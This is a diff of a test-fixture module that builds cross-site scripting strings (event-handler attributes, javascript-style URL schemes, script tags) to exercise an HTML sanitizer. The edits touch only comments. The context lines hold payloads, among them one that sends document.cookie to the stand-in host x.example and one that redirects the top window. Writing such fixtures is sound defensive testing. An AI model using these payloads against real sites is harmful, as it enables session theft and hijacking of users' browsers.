@@ -1,6 +1,6 @@
 /**
- * Rich texts that would run scripts if they were shown unsanitized: for the test of the sanitizer and for a test in a
- * real browser.
+ * Rich texts that would run scripts, load foreign content or leave the site if they were shown unsanitized: for the
+ * test of the sanitizer and for a test in a real browser.
  */
 
 const codes = ["alert(1)", "fetch('//x.example/'+document.cookie)", "top.location='//x.example'"];
@@ -38,7 +38,7 @@ const schemes = [
 export const handlerAttacks = tags.flatMap((tag) =>
   handlers.flatMap((handler) => codes.map((code) => `<${tag} src=x ${handler}="${code}">word</${tag}>`)),
 );
-/** URLs that run scripts or leave the site, in every attribute that takes a URL. Each element is closed. */
+/** URLs that run scripts or leave the site, in attributes that take a URL. Each element is closed. */
 export const schemeAttacks = schemes.flatMap((scheme) =>
   codes.flatMap((code) => [
     `<a href="${scheme}${code}">word</a>`,
@@ -50,8 +50,8 @@ export const schemeAttacks = schemes.flatMap((scheme) =>
   ]),
 );
 /**
- * Broken markup that a parser may repair in its own way. Each can hide the markup that follows, so each needs a text of
- * its own.
+ * Unusual or broken markup, which a parser may repair in its own way. Some of these attacks hide the markup that
+ * follows, so each attack needs a text of its own or the end of a text.
  */
 export const shapeAttacks = codes.flatMap((code) => [
   `<script>${code}</script>`,
